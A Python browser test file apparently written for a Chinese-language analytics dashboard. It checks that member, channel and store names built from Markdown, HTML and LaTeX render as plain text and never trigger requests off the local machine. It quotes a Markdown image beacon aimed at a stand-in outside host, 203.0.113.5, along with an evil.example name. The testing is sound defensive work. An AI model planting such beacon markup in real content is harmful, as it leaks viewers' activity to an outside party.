"""Markup injection in a real browser (issue 16): channels, tiers, stores, staff and member names made of
Markdown images and links, HTML, LaTeX and bare URLs (tests/pages/hostile_db.py, imported through the
generic profiles), opened with those names in the URL's filters, on every page and in the HTML report.

Before the fix the scope caption rendered `![b](http://203.0.113.5/beacon.png?who=viewer)` as an image, so
the browser asked 203.0.113.5 for it. Now: every request that would leave 127.0.0.1 is intercepted and
aborted (and the test fails on it), and no link or image pointing anywhere else is in any page.
"""

from __future__ import annotations

from urllib.parse import urlencode, urljoin

import pytest

from siyu.auth import accounts
from tests.browser.conftest import start_app, stop_app
from tests.browser.helpers import PASSWORD, login, login_if_asked, outside
from tests.pages import hostile_db as H

pytestmark = pytest.mark.browser
PAGES = [("", "总览"), ("retention", "留存"), ("members", "会员与等级"), ("referrals", "裂变"), ("channels", "渠道"),
         ("groups", "社群"), ("segments", "分群"), ("import", "导入"), ("admin", "账户与审计")]
QUERY = {"channel": H.IMAGE, "tier": H.LATEX, "store": H.LINK, "staff": H.IMAGE, "start": "2024-01-01",
         "end": "2024-12-31", "cohort": "channel"}
# Every element that can point the browser somewhere: links (HTML and SVG), images, frames, media.
_POINTERS = """() => {
  const out = [];
  for (const el of document.querySelectorAll('a, area, img, image, iframe, video, audio, source, object, embed, link')) {
    for (const attr of ['href', 'xlink:href', 'src', 'data', 'srcset']) {
      const v = el.getAttribute(attr);
      if (v) out.push(el.tagName.toLowerCase() + ' ' + v);
    }
  }
  return out;
}"""


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory):
    db = H.build_hostile(tmp_path_factory.mktemp("hostile") / "hostile.duckdb")
    accounts.create_account(db, "anna", PASSWORD, "admin", by="tests")
    server, url, log = start_app(db, tmp_path_factory.mktemp("hostile_log"))
    yield url
    stop_app(server, log)


@pytest.fixture
def guarded(browser):
    """A tab whose requests to anywhere but this machine are aborted and remembered."""
    context = browser.new_context(viewport={"width": 1400, "height": 2300}, locale="zh-CN", accept_downloads=True)
    tab = context.new_page()
    tab.blocked = []

    def route(route):
        if outside([route.request.url]):
            tab.blocked.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", route)
    yield tab
    context.close()


def settle(page) -> None:
    page.wait_for_function("() => !document.querySelector('[data-testid=stStatusWidget]')", timeout=90_000)
    page.wait_for_timeout(600)  # plotly draws after the script run ends


def pointers_elsewhere(page) -> list[str]:
    found = page.evaluate(_POINTERS)
    return [p for p in found if outside([urljoin(page.url, p.split(" ", 1)[1].split(" ")[0])])]


def test_no_page_fetches_or_links_anything_elsewhere(hostile_url, guarded):
    guarded.goto(f"{hostile_url}/?{urlencode(QUERY)}")
    login(guarded)
    for path, title in PAGES:
        guarded.goto(f"{hostile_url}/{path}?{urlencode(QUERY)}")
        login_if_asked(guarded)  # the login cookie keeps the session across loads (#13)
        guarded.get_by_role("heading", name=title).first.wait_for(timeout=60_000)
        settle(guarded)
        assert guarded.get_by_test_id("stException").count() == 0, path
        assert pointers_elsewhere(guarded) == [], path
        assert guarded.blocked == [], path
        if path in {"", "retention", "channels"}:
            # the names are there, as text: the scope caption shows the image's Markdown as written
            body = guarded.locator("body").inner_text()
            assert "beacon.png?who=viewer" in body, path
    # the channel names drawn by Plotly (bar categories, legend) are text, not <a> elements
    guarded.goto(f"{hostile_url}/channels?start=2024-01-01&end=2024-12-31")
    login_if_asked(guarded)
    guarded.get_by_role("heading", name="渠道").first.wait_for(timeout=60_000)
    settle(guarded)
    guarded.locator(".js-plotly-plot .main-svg").first.wait_for(timeout=30_000)
    svg_text = " ".join(guarded.locator(".js-plotly-plot text").all_text_contents())
    assert "evil.example" in svg_text or "203.0.113.5" in svg_text
    assert guarded.locator(".js-plotly-plot a").count() == 0
    assert guarded.blocked == []


def test_the_html_report_holds_the_names_as_text(hostile_url, guarded, tmp_path):
    guarded.goto(f"{hostile_url}/?{urlencode(QUERY)}")
    login(guarded)
    settle(guarded)
    with guarded.expect_download(timeout=60_000) as download:
        guarded.get_by_role("button", name="导出报告 (HTML)").click()
    report = tmp_path / "report.html"
    download.value.save_as(report)
    html = report.read_text(encoding="utf-8")
    assert "&lt;img" in html or "![b](http://203.0.113.5/beacon.png?who=viewer)" in html
    guarded.set_content(html, wait_until="load")  # its own requests go through the same interception
    guarded.locator(".js-plotly-plot .main-svg").first.wait_for(timeout=30_000)
    assert "beacon.png?who=viewer" in guarded.locator("body").inner_text()
    assert [p for p in guarded.evaluate(_POINTERS) if "203.0.113" in p or "evil.example" in p] == []
    assert guarded.blocked == []
